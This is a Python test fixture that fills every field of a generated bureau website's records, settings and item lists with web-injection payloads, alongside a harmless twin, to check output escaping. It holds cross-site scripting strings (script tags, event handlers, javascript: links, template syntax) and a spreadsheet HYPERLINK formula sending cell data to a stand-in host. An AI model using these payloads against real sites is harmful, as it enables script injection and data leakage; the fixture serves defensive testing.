"""A site with something hostile in every field, item and setting that takes it, and its twin.

What takes it is found by asking: each value of a valid sample is replaced, and stays if nothing
objects. The twin has harmless words in the same places. Numbers say where each payload stands.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

import yaml
from pydantic import BaseModel, ValidationError

from plugins.bureau.model import Bureau, ColumnFacts
from plugins.findings import has_errors
from plugins.records.field_metadata import is_list, part_type
from plugins.records.fields import label_of
from plugins.records.kinds import KINDS
from plugins.records.kinds.enforcement_item import Element, EnforcementItem
from tests.records.record_text import HEAD as USUAL
from tests.records.record_text import findings_of
from tests.states.moment_site import BUREAU, column_code
from tests.states.samples import HEAD, SAMPLES

# `@` stands for the number of the payload. None has a sign that begins another value of a list.
WORDS = [
    "甲@甲\"'><img src=q onerror=x(@)><script>x(@)</script>",
    "甲@甲</title></h1></a></div></main></body><body onload=x(@)>",
    "甲@甲&#34 onmouseover=x(@) a=&quot &ltscript>x(@)&lt/script> &#x202E",
    "甲@甲{{ x(@) }}{% raw %}${x(@)}<!--<script>--!>",
    "甲@甲]]></script></style></template><svg onload=x(@)>",
    "甲@甲 [乙](javascript:x(@)) <javascript:x(@)> ![丙](https://e@.example/a.png)",
    "=HYPERLINK(\"https://e@.example/\"&A1) 甲@甲' onfocus='x(@)' autofocus='",
]
# For fields that want an address.
ADDRESSES = [
    'https://e@.example/甲@甲"onclick=x(@)',
    "https://e@.example/甲@甲'><img/src=q/onerror=x(@)>",
    "https://e@.example/甲@甲?a=</script><script>x(@)</script>",
    "https://e@.example/甲@甲#&#34;onmouseover=x(@)",
    'https://www.gov.cn/甲@甲"><svg/onload=x(@)>',
    "javascript:x(@)//甲@甲",
    'https://e@.example/甲@甲\\"</a>',
]
SIGNS = re.compile(r"[^\w\s]")
# A valid value for each field that has parts.
PARTS: dict[str, dict[str, str]] = {
    "Attachment": {"文件": "files/xuncha.csv", "名称": "名称"},
    "Picture": {"文件": "images/emblem.svg", "说明": "说明"},
    "Revision": {"日期": "2026-03-02", "说明": "说明"},
    "Accepted": {"规则": "dead-link", "理由": "理由", "至": "2026-12-31"},
    "Material": {"名称": "名称", "份数": "1份", "说明": "说明"},
    "Step": {"做什么": "量尺寸", "怎么做": "说明"},
    "Helper": {"单位": "市容科", "电话": "0599-0001005", "说明": "说明"},
    "Period": {
        "事情": "缴款",
        "多少": "15",
        "单位": "日",
        "从哪天算": "收到",
        "依据": "某法",
        "说明": "说明",
    },
    "Outcome": {"日期": "2026-04-10", "收到意见": "3", "采纳意见": "1", "说明": "说明"},
    "Withdrawal": {"日期": "2026-03-02", "理由": "理由"},
    "Wording": {"语种": "中文", "语言代码": "zh-CN", "文字": "文字"},
}
BUREAU_EXTRAS = {
    "credit_code": "91350100M000100Y43",
    "sections": [{"name": "办公室", "duties": "文电", "phone": "0599-0001001"}],
    "friend_links": [{"name": "云汀市", "link": "https://www.yunting.gov.cn/", "note": "说明"}],
    "trusted_hosts": ["yunting.example"],
}
ITEM_COLUMN = "shixiang"
FILES = {"文件", "emblem"}
# A penalty that is withdrawn shows nothing but that; so its reason has a record of its own.
HIDING = {"撤回"}
# An old address takes few signs, and each makes a page of its own.
MAKING_PAGES = {"旧网址"}
Path = tuple[Any, ...]
Accepts = Callable[[Any], bool]


class Place(NamedTuple):
    """Where a payload stands: `owner` is a file, `path` leads to the value, `value` as written."""

    owner: str
    path: Path
    value: str


class Hostile(NamedTuple):
    """`files` and those of the `twin` by path; `accepted` and `refused` by number of the payload.

    What was refused stands in files that are not shown, so that it is seen what is said of it.
    """

    files: dict[str, str]
    twin: dict[str, str]
    accepted: dict[int, Place]
    refused: dict[int, Place]


def hostile() -> Hostile:
    site = Hostile({}, {}, {}, {})
    for kind in KINDS:
        _add_records(site, kind, f"{column_code(kind)}/p", {})
    _add_records(site, "penalty", "penalty/withdrawn-p", {"撤回": PARTS["Withdrawal"]})
    _add_records(site, "page", "page/leaders-p", {"附带内容": "负责人名单"})
    _add_records(site, "page", "page/contact-p", {"附带内容": "联系方式"})
    _add_settings(site)
    return site


def _fill(
    site: Hostile, owner: str, data: Any, variant: int, accepts: Accepts
) -> tuple[Any, Any, dict[Path, bool | None]]:
    """`data` with a payload in every value that takes one, its twin, and what each value takes:
    words, else an address, else None.
    """
    full, twin, taken = data, data, {}
    for path in _leaves(data):
        if path[-1] in FILES:
            continue  # a file that is there, so that its name is shown
        taken[path] = None
        for is_words in (True, False):
            number, value = _next(site, owner, path, variant, is_words)
            tried = _with(full, path, value)
            if accepts(tried):
                taken[path], full = is_words, tried
                twin = _with(twin, path, _twin(number, value, is_words))
                site.accepted[number] = Place(owner, path, value)
                break
            site.refused[number] = Place(owner, path, value)
    return full, twin, taken


def _refill(
    site: Hostile, owner: str, data: Any, variant: int, taken: dict[Path, bool | None]
) -> tuple[Any, Any]:
    """As `_fill`, where it is known what each value takes."""
    full, twin = data, data
    for path, is_words in taken.items():
        if is_words is None:
            number, value = _next(site, owner, path, variant, True)
            site.refused[number] = Place(owner, path, value)
            continue
        number, value = _next(site, owner, path, variant, is_words)
        if value.startswith("javascript:"):
            site.refused[number] = Place(owner, path, value)
            continue
        full, twin = _with(full, path, value), _with(twin, path, _twin(number, value, is_words))
        site.accepted[number] = Place(owner, path, value)
    return full, twin


def _next(site: Hostile, owner: str, path: Path, variant: int, is_words: bool) -> tuple[int, str]:
    number = len(site.accepted) + len(site.refused) + 1
    texts = WORDS if is_words else ADDRESSES
    return number, texts[variant % len(texts)].replace("@", str(number))


def _twin(number: int, value: str, is_words: bool) -> str:
    """As many signs, without those that mean anything; or an address of the same host."""
    mark = f"甲{number}甲"
    return SIGNS.sub("字", value) if is_words else value.partition(mark)[0] + mark


def _leaves(data: Any, path: Path = ()) -> Iterator[Path]:
    if isinstance(data, str):
        yield path
    elif isinstance(data, dict):
        for key, value in data.items():
            yield from _leaves(value, (*path, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from _leaves(value, (*path, index))


def _with(data: Any, path: Path, value: Any) -> Any:
    """A copy of `data` with another value at `path`."""
    if not path:
        return value
    copy = list(data) if isinstance(data, list) else dict(data)
    copy[path[0]] = _with(
        data[path[0]] if isinstance(data, list) else data.get(path[0]), path[1:], value
    )
    return copy


def _as_yaml(data: Any) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=100_000)


# Records.


def _add_records(site: Hostile, kind: str, name: str, more: dict[str, Any]) -> None:
    """A record for each of WORDS; `more` are fields that every one has."""
    fields, body = SAMPLES[kind]
    read = {label: yaml.safe_load(text) for label, text in fields.items()}
    plain = {label: each if isinstance(each, list) else str(each) for label, each in read.items()}
    valid = {**USUAL, **HEAD, **plain, **more}

    def accepts(head: Any) -> bool:
        return not has_errors(findings_of(_record(_written(head), body), kind))

    full = dict(valid)
    for label, value in _all_fields(kind, valid).items():
        if label in HIDING | MAKING_PAGES:
            continue
        # One field after the other: rules about two of them would refuse both.
        if accepts({**full, label: value}):
            full[label] = value
    taken: dict[Path, bool | None] = {}
    for variant in range(len(WORDS)):
        path = f"{name}{variant}.md"
        before = len(site.refused)
        if variant:
            filled, twin = _refill(site, path, full, variant, taken)
        else:
            filled, twin, taken = _fill(site, path, full, variant, accepts)
        site.files[path] = _record(_written(filled), body)
        site.twin[path] = _record(_written(twin), body)
        # All that it refused, in one that is not shown.
        refused = full
        for place in list(site.refused.values())[before:]:
            refused = _with(refused, place.path, place.value)
        beside = path.replace("/", "/refused-")
        site.files[beside] = _record(_written(refused), body)


def _written(head: dict[str, Any]) -> dict[str, Any]:
    return {label: value for label, value in head.items() if value not in ("", [""])}


def _all_fields(kind: str, valid: dict[str, Any]) -> dict[str, Any]:
    """A value for every field of a kind: as in the sample, its parts, or none yet."""
    found: dict[str, Any] = {}
    for info in KINDS[kind].model_fields.values():
        part = part_type(info)
        if info.title in valid:
            found[info.title] = valid[info.title]
        elif part is None:
            found[info.title] = [""] if is_list(info) else ""
        else:
            sample = PARTS[part.__name__]
            found[info.title] = [sample] if is_list(info) else sample
    return found


def _record(head: dict[str, Any], body: str) -> str:
    return f"---\n{_as_yaml(head)}---\n{body}\n"


# Settings and data files.


def _add_settings(site: Hostile) -> None:
    contact = {**BUREAU["contact"], "fax": "1", "email": "a@yunting.gov.cn", "hotline": "12345"}
    platforms = {name: {**each, "note": "说明"} for name, each in BUREAU["platforms"].items()}
    petition = {"name": "信访", "link": "https://www.yunting.gov.cn/x", "note": "说明"}
    whole = {
        **BUREAU,
        **BUREAU_EXTRAS,
        "contact": contact,
        "platforms": {**platforms, "petition": petition},
    }
    _add(site, "bureau.yml", whole, 0, lambda data: _is_valid(Bureau, data))
    columns = {column_code(kind): kind for kind in KINDS}
    columns |= {ITEM_COLUMN: "matter", "empty": "news"}
    for order, (code, kind) in enumerate(columns.items()):
        facts = {
            "name": code, "description": "说明", "keywords": ["词"], "ColumnType": "工作动态",
            "kind": kind, "group": "all", "clock": 30, "owner": "办公室", "order": order,
            "home": "是", "empty": "还没有",
        }  # fmt: skip
        known = {"kind": kind, "group": "all"}
        _add(
            site,
            f"{code}/_column.yml",
            facts,
            order,
            lambda data, known=known: data == {**data, **known} and _is_valid(ColumnFacts, data),
        )
    element = {"文字": "文字", "链接": "https://www.yunting.gov.cn/"}
    fields = EnforcementItem.model_fields.items()
    elements = [name for name, info in fields if info.annotation is Element]
    item = {"事项名称": "甲", "领域": "甲"}
    item |= {label_of(EnforcementItem, name): element for name in elements}
    path = f"{ITEM_COLUMN}/items.yml"
    items, twins = [], []
    for variant in range(len(WORDS)):
        full, twin, _ = _fill(site, path, item, variant, _has_addresses)
        items.append(full)
        twins.append(twin)
    site.files[path], site.twin[path] = _as_yaml(items), _as_yaml(twins)


def _has_addresses(item: dict[str, Any]) -> bool:
    """Whether links of an item are addresses. They may be anything, and are resolved later."""
    links = [element["链接"] for element in item.values() if isinstance(element, dict)]
    return all(":" in link.partition("甲")[0] for link in links)


def _add(site: Hostile, path: str, data: Any, variant: int, accepts: Accepts) -> None:
    full, twin, _ = _fill(site, path, data, variant, accepts)
    site.files[path], site.twin[path] = _as_yaml(full), _as_yaml(twin)


def _is_valid(model: type[BaseModel], data: Any) -> bool:
    try:
        model.model_validate(data)
    except ValidationError:
        return False
    return True
